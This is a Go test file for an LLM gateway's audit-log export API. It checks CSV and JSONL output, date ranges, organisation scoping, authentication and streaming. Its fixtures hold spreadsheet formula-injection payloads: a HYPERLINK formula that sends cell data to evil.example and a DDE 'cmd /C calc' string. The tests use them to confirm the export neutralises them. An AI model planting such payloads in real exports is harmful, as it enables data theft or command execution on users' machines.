package master_test

import (
	"bufio"
	"encoding/csv"
	"encoding/json"
	"errors"
	"fmt"
	"io"
	"net"
	"net/http"
	"net/http/httptest"
	"net/url"
	"slices"
	"strings"
	"sync/atomic"
	"testing"
	"time"

	"github.com/gofiber/fiber/v2"
	"gorm.io/gorm"

	"github.com/llmgw/gateway/app/apierr"
	"github.com/llmgw/gateway/app/catalog"
	"github.com/llmgw/gateway/app/keys"
	"github.com/llmgw/gateway/app/master"
	"github.com/llmgw/gateway/models"
)

var exportHeader = []string{"time", "requestId", "projectId", "apiKeyId", "endpoint", "requestedModel", "model",
	"jurisdiction", "decision", "provider", "region", "hostingJurisdiction", "operatorJurisdiction",
	"status", "errorType", "attempts", "selectionReason"}

// exportApp mounts a master API with a catalog (Mistral with an EU and a US
// region) and the given batch size on e's database.
func exportApp(t *testing.T, e *env, batch int) *fiber.App {
	t.Helper()
	cat, err := catalog.LoadBytes([]byte(`
providers:
  - id: mistral
    operator: eu
    regions:
      - {id: eu-west-1, jurisdiction: eu}
      - {id: us-east-1, jurisdiction: us}
`))
	if err != nil {
		t.Fatal(err)
	}
	api := &master.API{DB: e.db.DB, Hasher: keys.NewHasher("test-hash-secret"),
		Catalog: func() *catalog.Catalog { return cat }, ExportBatchSize: batch}
	app := fiber.New(fiber.Config{ErrorHandler: func(c *fiber.Ctx, err error) error {
		return apierr.Write(c, apierr.FromFiber(c, err))
	}})
	api.Register(app.Group("/v1/master"))
	return app
}

// export GETs the export and returns the response and its body.
func export(t *testing.T, app *fiber.App, key, query string) (*http.Response, string) {
	t.Helper()
	req := httptest.NewRequest("GET", "/v1/master/audit-logs/export?"+query, nil)
	if key != "" {
		req.Header.Set("Authorization", "Bearer "+key)
	}
	resp, err := app.Test(req, 30_000)
	if err != nil {
		t.Fatal(err)
	}
	defer resp.Body.Close()
	raw, err := io.ReadAll(resp.Body)
	if err != nil {
		t.Fatal(err)
	}
	return resp, string(raw)
}

func parseCSV(t *testing.T, body string) map[string]map[string]string {
	t.Helper()
	recs, err := csv.NewReader(strings.NewReader(body)).ReadAll()
	if err != nil {
		t.Fatalf("CSV: %v\n%s", err, body)
	}
	if len(recs) == 0 || !slices.Equal(recs[0], exportHeader) {
		t.Fatalf("CSV header: %v", recs)
	}
	out := map[string]map[string]string{}
	for _, r := range recs[1:] {
		m := map[string]string{}
		for i, h := range exportHeader {
			m[h] = r[i]
		}
		if _, dup := out[m["requestId"]]; dup {
			t.Fatalf("request %s exported twice", m["requestId"])
		}
		out[m["requestId"]] = m
	}
	return out
}

func parseJSONL(t *testing.T, body string) (map[string]map[string]any, []string) {
	t.Helper()
	out := map[string]map[string]any{}
	var order []string
	sc := bufio.NewScanner(strings.NewReader(body))
	for sc.Scan() {
		var m map[string]any
		if err := json.Unmarshal(sc.Bytes(), &m); err != nil {
			t.Fatalf("JSONL line %q: %v", sc.Text(), err)
		}
		if len(m) != len(exportHeader) {
			t.Fatalf("JSONL fields %v", m)
		}
		id := m["requestId"].(string)
		out[id] = m
		order = append(order, id)
	}
	return out, order
}

// logRow is a request_logs row of org a's setup project and key.
func logRow(e *env, reqID string, at time.Time, model, provider string, status int, errType string, retried bool, routing string) *models.RequestLog {
	return &models.RequestLog{ID: "log_" + reqID + "_" + fmt.Sprint(status) + fmt.Sprint(retried), RequestID: reqID, CreatedAt: at,
		OrganizationID: e.a.OrganizationID, ProjectID: e.a.ProjectID, APIKeyID: "ak_export_a", Endpoint: "chat.completions",
		RequestedModel: model, UsedModel: strings.TrimPrefix(model, "eu-sovereign/"), UsedProvider: provider, Status: status,
		ErrorType: errType, Retried: retried, RoutingAttempts: routing}
}

func TestAuditExport(t *testing.T) {
	forEachDialect(t, func(t *testing.T, dialect string) {
		e := newEnv(t, dialect, false)
		app := exportApp(t, e, 2) // tiny batches: every group straddles one somewhere
		mk := e.a.MasterKey
		t0 := time.Date(2025, 3, 1, 0, 0, 0, 0, time.UTC)
		injected := `=HYPERLINK("http://evil.example/?x="&A1,"click")`
		rows := []*models.RequestLog{
			// A failover: OpenAI failed, Mistral's EU region answered.
			logRow(e, "req_failover", t0.Add(time.Hour), "tv-chat", "openai", 502, "server_error", true,
				`{"routing":[{"provider":"openai","model":"tv-openai","status_code":502,"error_type":"server_error","succeeded":false},{"provider":"mistral","model":"tv-mistral","status_code":200,"error_type":"none","succeeded":true,"region":"eu-west-1"}],"selectionReason":"cheapest"}`),
			logRow(e, "req_failover", t0.Add(time.Hour), "tv-chat", "mistral", 200, "", false,
				`{"routing":[{"provider":"openai","model":"tv-openai","status_code":502,"error_type":"server_error","succeeded":false},{"provider":"mistral","model":"tv-mistral","status_code":200,"error_type":"none","succeeded":true,"region":"eu-west-1"}],"selectionReason":"cheapest"}`),
			// Served under eu-sovereign.
			logRow(e, "req_sovereign", t0.Add(2*time.Hour), "eu-sovereign/tv-chat", "mistral", 200, "", false,
				`{"routing":[{"provider":"mistral","model":"tv-mistral","status_code":200,"error_type":"none","succeeded":true,"region":"eu-west-1"}],"selectionReason":"only-candidate","jurisdiction":"eu-sovereign"}`),
			// Refused under eu-sovereign: no attempt.
			logRow(e, "req_refused", t0.Add(3*time.Hour), "eu-sovereign/gpt-4o-mini", "", 403, "jurisdiction_violation", false,
				`{"routing":[],"jurisdiction":"eu-sovereign"}`),
			// An EU operator's US region, pinned.
			logRow(e, "req_us_region", t0.Add(4*time.Hour), "mistral/tv-chat:us-east-1", "mistral", 200, "", false,
				`{"routing":[{"provider":"mistral","model":"tv-mistral","status_code":200,"error_type":"none","succeeded":true,"region":"us-east-1"}],"selectionReason":"provider-pinned"}`),
			// Formula injection and RFC 4180 quoting in client-controlled text.
			logRow(e, "req_inject", t0.Add(5*time.Hour), injected, "", 404, "model_not_found", false, ""),
			logRow(e, "req_plus", t0.Add(5*time.Hour+time.Minute), "+cmd|' /C calc'!A0", "", 404, "-1+2", false, ""),
			logRow(e, "req_at", t0.Add(5*time.Hour+2*time.Minute), "@SUM(1,2)\nline two", "", 404, "", false, ""),
			// Two requests started in the same microsecond, ids interleaved.
			logRow(e, "req_same_b", t0.Add(6*time.Hour), "gpt-4o-mini", "openai", 500, "server_error", true, ""),
			logRow(e, "req_same_a", t0.Add(6*time.Hour), "gpt-4o-mini", "openai", 200, "", false, ""),
			logRow(e, "req_same_b", t0.Add(6*time.Hour), "gpt-4o-mini", "openrouter", 200, "", false, ""),
			// Outside the range: before from, at to (exclusive), another org.
			logRow(e, "req_before", t0.Add(-time.Second), "gpt-4o-mini", "openai", 200, "", false, ""),
			logRow(e, "req_at_to", t0.AddDate(0, 0, 1), "gpt-4o-mini", "openai", 200, "", false, ""),
		}
		rows[9].ID, rows[8].ID, rows[10].ID = "log_same_1", "log_same_2", "log_same_3"
		other := logRow(e, "req_other_org", t0.Add(time.Hour), "gpt-4o-mini", "openai", 200, "", false, "")
		other.OrganizationID, other.ProjectID, other.APIKeyID = e.b.OrganizationID, e.b.ProjectID, "ak_export_b"
		rows = append(rows, other)
		if err := e.db.Create(rows).Error; err != nil {
			t.Fatal(err)
		}
		rng := "from=2025-03-01&to=2025-03-02"

		resp, body := export(t, app, mk, "format=csv&"+rng)
		if resp.StatusCode != 200 || resp.Header.Get("Content-Type") != "text/csv; charset=utf-8" ||
			resp.Header.Get("Content-Disposition") != `attachment; filename="audit-logs-20250301T000000Z-20250302T000000Z.csv"` {
			t.Fatalf("CSV: %d %v\n%s", resp.StatusCode, resp.Header, body)
		}
		recs := parseCSV(t, body)
		ids := slices.Sorted(func(yield func(string) bool) {
			for k := range recs {
				if !yield(k) {
					return
				}
			}
		})
		want := []string{"req_at", "req_failover", "req_inject", "req_plus", "req_refused", "req_same_a", "req_same_b", "req_sovereign", "req_us_region"}
		if !slices.Equal(ids, want) {
			t.Fatalf("exported %v, want %v", ids, want)
		}
		check := func(id string, kv ...string) {
			t.Helper()
			for i := 0; i < len(kv); i += 2 {
				if got := recs[id][kv[i]]; got != kv[i+1] {
					t.Errorf("%s.%s = %q, want %q (%v)", id, kv[i], got, kv[i+1], recs[id])
				}
			}
		}
		check("req_failover", "time", "2025-03-01T01:00:00.000000Z", "projectId", e.a.ProjectID, "apiKeyId", "ak_export_a",
			"endpoint", "chat.completions", "requestedModel", "tv-chat", "model", "tv-chat", "jurisdiction", "global",
			"decision", "allowed", "provider", "mistral", "region", "eu-west-1", "hostingJurisdiction", "eu",
			"operatorJurisdiction", "eu", "status", "200", "errorType", "", "attempts", "2", "selectionReason", "cheapest")
		check("req_sovereign", "jurisdiction", "eu-sovereign", "decision", "allowed", "provider", "mistral", "region", "eu-west-1",
			"hostingJurisdiction", "eu", "operatorJurisdiction", "eu", "attempts", "1", "selectionReason", "only-candidate")
		check("req_refused", "requestedModel", "eu-sovereign/gpt-4o-mini", "model", "gpt-4o-mini", "jurisdiction", "eu-sovereign",
			"decision", "refused", "provider", "", "region", "", "hostingJurisdiction", "", "operatorJurisdiction", "",
			"status", "403", "errorType", "jurisdiction_violation", "attempts", "0")
		check("req_us_region", "region", "us-east-1", "hostingJurisdiction", "us", "operatorJurisdiction", "eu", "selectionReason", "provider-pinned")
		check("req_same_a", "provider", "openai", "status", "200", "attempts", "1", "hostingJurisdiction", "us", "operatorJurisdiction", "us")
		check("req_same_b", "provider", "openrouter", "status", "200", "attempts", "2")
		// Injection guard: the cell is text, round-tripped intact behind the apostrophe.
		check("req_inject", "requestedModel", "'"+injected, "decision", "allowed", "jurisdiction", "global", "attempts", "0")
		check("req_plus", "requestedModel", "'+cmd|' /C calc'!A0", "errorType", "'-1+2")
		check("req_at", "requestedModel", "'@SUM(1,2)\nline two")

		// JSONL: the same records, in time order, values unaltered.
		resp, body = export(t, app, mk, "format=jsonl&"+rng)
		if resp.StatusCode != 200 || resp.Header.Get("Content-Type") != "application/x-ndjson" ||
			!strings.HasSuffix(resp.Header.Get("Content-Disposition"), `.jsonl"`) {
			t.Fatalf("JSONL: %d %v", resp.StatusCode, resp.Header)
		}
		jl, order := parseJSONL(t, body)
		if len(jl) != len(want) || order[0] != "req_failover" || order[len(order)-1] != "req_same_b" {
			t.Fatalf("JSONL order %v", order)
		}
		for id, m := range jl {
			for _, h := range exportHeader {
				v := fmt.Sprint(m[h])
				if c := recs[id][h]; v != c && "'"+v != c {
					t.Errorf("%s.%s: JSONL %q, CSV %q", id, h, v, c)
				}
			}
		}
		if jl["req_inject"]["requestedModel"] != injected || jl["req_refused"]["status"] != 403.0 || jl["req_failover"]["attempts"] != 2.0 {
			t.Errorf("JSONL values %v %v", jl["req_inject"], jl["req_refused"])
		}

		// RFC 3339 bounds; org scoping; filters.
		_, body = export(t, app, mk, "from=2025-03-01T02:00:00Z&to="+url.QueryEscape("2025-03-01T04:30:00+01:00"))
		if got := parseCSV(t, body); len(got) != 2 || got["req_sovereign"] == nil || got["req_refused"] == nil {
			t.Errorf("RFC 3339 range: %v", got)
		}
		_, body = export(t, app, e.b.MasterKey, rng)
		if got := parseCSV(t, body); len(got) != 1 || got["req_other_org"] == nil || got["req_other_org"]["projectId"] != e.b.ProjectID {
			t.Errorf("org b: %v", got)
		}
		_, body = export(t, app, mk, rng+"&projectId="+e.b.ProjectID)
		if got := parseCSV(t, body); len(got) != 0 {
			t.Errorf("org b's project through org a: %v", got)
		}
		_, body = export(t, app, mk, rng+"&apiKeyId=ak_export_a&format=jsonl")
		if got, _ := parseJSONL(t, body); len(got) != len(want) {
			t.Errorf("apiKeyId filter: %d records", len(got))
		}
		// Empty range: header only.
		if _, body = export(t, app, mk, "from=2024-01-01&to=2024-02-01"); body != strings.Join(exportHeader, ",")+"\n" {
			t.Errorf("empty CSV: %q", body)
		}
		if _, body = export(t, app, mk, "format=jsonl&from=2024-01-01&to=2024-02-01"); body != "" {
			t.Errorf("empty JSONL: %q", body)
		}

		// Default range: the last 30 days.
		recent := logRow(e, "req_recent", time.Now().Add(-time.Hour), "gpt-4o-mini", "openai", 200, "", false, "")
		old := logRow(e, "req_old", time.Now().AddDate(0, 0, -31), "gpt-4o-mini", "openai", 200, "", false, "")
		if err := e.db.Create([]*models.RequestLog{recent, old}).Error; err != nil {
			t.Fatal(err)
		}
		if _, body = export(t, app, mk, ""); len(parseCSV(t, body)) != 1 || parseCSV(t, body)["req_recent"] == nil {
			t.Errorf("default range: %s", body)
		}

		// Bad input: 400 naming the parameter; no master key: 401.
		for q, param := range map[string]string{
			"format=xml":                                  "format",
			"format=CSV":                                  "format",
			"from=yesterday":                              "from",
			"from=2025-02-30":                             "from",
			"to=2025-13-01":                               "to",
			"from=2025-03-02&to=2025-03-01":               "to",
			"from=2025-03-01&to=2025-03-01":               "to",
			"from=2024-01-01&to=2025-01-02":               "to", // 367 days
			"from=" + url.QueryEscape("2025-03-01 00:00"): "from",
		} {
			req := httptest.NewRequest("GET", "/v1/master/audit-logs/export?"+q, nil)
			req.Header.Set("Authorization", "Bearer "+mk)
			resp, _ := app.Test(req, 10_000)
			var m map[string]any
			_ = json.NewDecoder(resp.Body).Decode(&m)
			resp.Body.Close()
			if resp.StatusCode != 400 || errParam(m) != param {
				t.Errorf("%s: %d %v (want 400 %s)", q, resp.StatusCode, m, param)
			}
		}
		if resp, _ := export(t, app, mk, "from=2024-01-01&to=2025-01-01"); resp.StatusCode != 200 { // 366 days
			t.Errorf("366 days: %d", resp.StatusCode)
		}
		for _, key := range []string{"", e.a.APIKey, "llmgmk_nope"} {
			if resp, _ := export(t, app, key, rng); resp.StatusCode != 401 {
				t.Errorf("key %q: %d", key, resp.StatusCode)
			}
		}
		// Through the API as registered by newEnv (no catalog): the columns are empty, the rest is there.
		req := httptest.NewRequest("GET", "/v1/master/audit-logs/export?"+rng, nil)
		req.Header.Set("Authorization", "Bearer "+mk)
		resp, err := e.app.Test(req, 10_000)
		if err != nil {
			t.Fatal(err)
		}
		raw, _ := io.ReadAll(resp.Body)
		resp.Body.Close()
		if got := parseCSV(t, string(raw)); len(got) != len(want) || got["req_sovereign"]["hostingJurisdiction"] != "" || got["req_sovereign"]["region"] != "eu-west-1" {
			t.Errorf("without catalog: %v", got["req_sovereign"])
		}
	})
}

// TestAuditExportStreams: 5,000 log rows (2,500 two-attempt requests) come out
// in many batches, the first records reach the client while the database is
// still being read, and a database failure mid-stream aborts the response.
func TestAuditExportStreams(t *testing.T) {
	forEachDialect(t, func(t *testing.T, dialect string) {
		e := newEnv(t, dialect, false)
		const batch, requests = 333, 2500 // odd: batches split requests
		t0 := time.Date(2025, 6, 1, 0, 0, 0, 0, time.UTC)
		rows := make([]*models.RequestLog, 0, 2*requests)
		for i := range requests {
			id := fmt.Sprintf("req_%05d", i)
			at := t0.Add(time.Duration(i) * time.Second)
			routing := `{"routing":[{"provider":"openai","status_code":500,"error_type":"server_error"},{"provider":"mistral","status_code":200,"error_type":"none","succeeded":true,"region":"eu-west-1"}],"jurisdiction":"eu-hosted"}`
			r1 := logRow(e, id, at, "eu-hosted/tv-chat", "openai", 500, "server_error", true, routing)
			r2 := logRow(e, id, at, "eu-hosted/tv-chat", "mistral", 200, "", false, routing)
			r1.ID, r2.ID = "log_"+id+"_b", "log_"+id+"_a" // the final attempt sorts first
			rows = append(rows, r1, r2)
		}
		if err := e.db.CreateInBatches(rows, 50).Error; err != nil { // small statements: SQLite is slow to prepare big ones
			t.Fatal(err)
		}
		rows = nil

		// Count (and gate, and break) the batch queries.
		var queries atomic.Int32
		gate, failAt := make(chan struct{}), atomic.Int32{}
		var gateTimedOut atomic.Bool
		err := e.db.Callback().Query().Before("gorm:query").Register("test:export_batches", func(tx *gorm.DB) {
			if tx.Statement.Table != "request_logs" {
				return
			}
			n := queries.Add(1)
			if n == failAt.Load() {
				tx.AddError(errors.New("database went away"))
			}
			if n == 3 {
				select {
				case <-gate:
				case <-time.After(10 * time.Second):
					gateTimedOut.Store(true)
				}
			}
		})
		if err != nil {
			t.Fatal(err)
		}
		app := exportApp(t, e, batch)
		ln, err := net.Listen("tcp", "127.0.0.1:0")
		if err != nil {
			t.Fatal(err)
		}
		go app.Listener(ln)
		t.Cleanup(func() { app.Shutdown() })
		get := func(query string) *http.Response {
			req, _ := http.NewRequest("GET", "http://"+ln.Addr().String()+"/v1/master/audit-logs/export?"+query, nil)
			req.Header.Set("Authorization", "Bearer "+e.a.MasterKey)
			resp, err := http.DefaultClient.Do(req)
			if err != nil {
				t.Fatal(err)
			}
			return resp
		}

		resp := get("format=jsonl&from=2025-06-01&to=2025-06-02")
		defer resp.Body.Close()
		if resp.StatusCode != 200 || resp.ContentLength != -1 {
			t.Fatalf("%d, length %d", resp.StatusCode, resp.ContentLength)
		}
		br := bufio.NewReader(resp.Body)
		first, err := br.ReadString('\n')
		if err != nil || !strings.Contains(first, `"requestId":"req_00000"`) {
			t.Fatalf("first line %q %v", first, err)
		}
		// The third batch is still waiting for the gate: the first record
		// came from a response being written while the database is read.
		if queries.Load() > 3 {
			t.Fatalf("%d queries before the first record was read: buffered", queries.Load())
		}
		close(gate)
		rest, err := io.ReadAll(br)
		if err != nil {
			t.Fatal(err)
		}
		if gateTimedOut.Load() {
			t.Fatal("the first record only came after the database was read: the export is buffered")
		}
		jl, order := parseJSONL(t, first+string(rest))
		if len(jl) != requests || !slices.IsSorted(order) {
			t.Fatalf("%d records (sorted %v)", len(jl), slices.IsSorted(order))
		}
		for id, m := range jl {
			if m["attempts"] != 2.0 || m["provider"] != "mistral" || m["status"] != 200.0 || m["hostingJurisdiction"] != "eu" ||
				m["jurisdiction"] != "eu-hosted" || m["decision"] != "allowed" {
				t.Fatalf("%s: %v", id, m)
			}
		}
		if n, least := queries.Load(), int32(2*requests/batch+1); n < least {
			t.Fatalf("%d batch queries, want at least %d", n, least)
		}

		// A failure after the first byte: the body is cut, never a clean end.
		queries.Store(0)
		failAt.Store(4)
		resp2 := get("from=2025-06-01&to=2025-06-02")
		defer resp2.Body.Close()
		body, err := io.ReadAll(resp2.Body)
		if resp2.StatusCode != 200 || err == nil {
			t.Fatalf("mid-stream failure: %d, %d bytes, err %v", resp2.StatusCode, len(body), err)
		}
		// Before the first byte: a clean 500.
		queries.Store(0)
		failAt.Store(1)
		resp3 := get("from=2025-06-01&to=2025-06-02")
		defer resp3.Body.Close()
		if resp3.StatusCode != 500 {
			t.Fatalf("first-batch failure: %d", resp3.StatusCode)
		}
	})
}
